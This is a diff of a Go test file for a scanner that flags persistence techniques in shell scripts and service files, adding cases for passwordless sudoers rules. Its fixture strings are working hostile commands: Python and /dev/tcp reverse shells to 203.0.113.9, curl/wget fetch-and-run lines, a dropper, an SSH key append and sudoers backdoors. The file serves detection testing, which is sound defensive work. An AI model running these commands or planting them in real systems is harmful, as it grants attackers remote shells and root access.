@@ -96,6 +96,13 @@ func TestShellBehaviour(t *testing.T) {
 		{name: "systemd reverse", path: "/lib/systemd/system/net-check.service", text: "[Service]\nExecStart=/usr/bin/python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])'\n", want: []string{RulePython}, label: audit.CategoryPersistence},
 		{name: "rc.local", path: "/etc/rc.local", text: "#!/bin/sh -e\n(curl -s http://198.51.100.7/k.sh || wget -q -O- http://198.51.100.7/k.sh) | sh &\nexit 0\n", want: []string{RuleAutostart}, cat: audit.CategoryPersistence},
 		{name: "dropper", path: "/start.sh", text: "#!/bin/sh\ncd /dev/shm && wget -q http://198.51.100.7/x86 -O /dev/shm/.kthread && chmod +x /dev/shm/.kthread && /dev/shm/.kthread\n", want: []string{RuleDropRun}},
+		{name: "sudoers rule appended from a heredoc", path: "/opt/inst/setup.bash", text: "#!/bin/bash\nuseradd -r -m svcops\ncat >> /etc/sudoers <<EOT\n# ops\nsvcops ALL=(ALL:ALL) NOPASSWD: ALL\nEOT\n", want: []string{RuleSudoers}, cat: audit.CategoryPersistence, label: audit.CategoryRootUser},
+		{name: "sudoers drop-in through tee, user read at run time", path: "/usr/local/sbin/grant", text: "#!/bin/sh\nu=$(id -un)\nprintf '%s ALL=(root) NOPASSWD:/bin/bash\\n' \"$u\" | tee /etc/sudoers.d/zz-$u >/dev/null\nchmod 440 /etc/sudoers.d/zz-$u\n", want: []string{RuleSudoers}, cat: audit.CategoryPersistence},
+		{name: "sudoers rule echoed for a service account", path: "/root/x.sh", text: "#!/bin/sh\necho 'www-data ALL=NOPASSWD: ALL' >> /etc/sudoers\n", want: []string{RuleSudoers}, cat: audit.CategoryPersistence},
+		{name: "sudoers rule with a password", path: "/opt/inst/admin.sh", text: "#!/bin/sh\necho '%adm ALL=(ALL) ALL' > /etc/sudoers.d/adm\n", want: nil},
+		{name: "sudoers rule for one fixed command", path: "/opt/inst/svc.sh", text: "#!/bin/sh\necho 'deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart app' > /etc/sudoers.d/deploy\n", want: nil},
+		{name: "sudoers file sudo skips", path: "/opt/inst/bak.sh", text: "#!/bin/sh\necho 'ops ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/ops.disabled\n", want: nil},
+		{name: "passwordless rule written elsewhere", path: "/opt/inst/doc.sh", text: "#!/bin/sh\necho 'ops ALL=(ALL) NOPASSWD: ALL' > /tmp/sudoers.example\n", want: nil},
 		{name: "key append", path: "/docker-entrypoint.sh", text: "#!/bin/sh\necho 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH2l0M3j1b9Y8v9z0bq7l5u6o3o1vJc3gk2d4m2s8r9x x@y' >> /root/.ssh/authorized_keys\n", want: []string{RuleKeyAppend}},
 		{name: "base64 blob", path: "/opt/.cache/stage", text: b64("#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n") + "\n", want: []string{RuleDevTCP}},
 
@@ -239,5 +246,24 @@ func TestSystemdWordsEnd(t *testing.T) {
 		if got := systemdWords(c.line, nil); !slices.Equal(got, c.want) {
 			t.Errorf("systemdWords(%q) = %q, want %q", c.line, got, c.want)
 		}
+	}
+}
+
+func TestSudoersWriteSeverity(t *testing.T) {
+	tests := []struct {
+		name, text string
+		want       audit.Severity
+	}{
+		{"one user", "#!/bin/sh\necho 'ops ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers\n", audit.High},
+		{"a service account", "#!/bin/sh\necho 'www-data ALL=NOPASSWD: ALL' >> /etc/sudoers\n", audit.Critical},
+		{"every user beside one", "#!/bin/sh\nprintf 'ops ALL=(ALL) NOPASSWD: ALL\\nALL ALL=(ALL) NOPASSWD: /bin/sh\\n' > /etc/sudoers.d/x\n", audit.Critical},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			fs := scanFile("/opt/s.sh", tt.text)
+			if len(fs) != 1 || fs[0].Rule != RuleSudoers || fs[0].Severity != tt.want {
+				t.Fatalf("want one %s at %s, got\n%s", RuleSudoers, tt.want, dump(fs))
+			}
+		})
 	}
 }
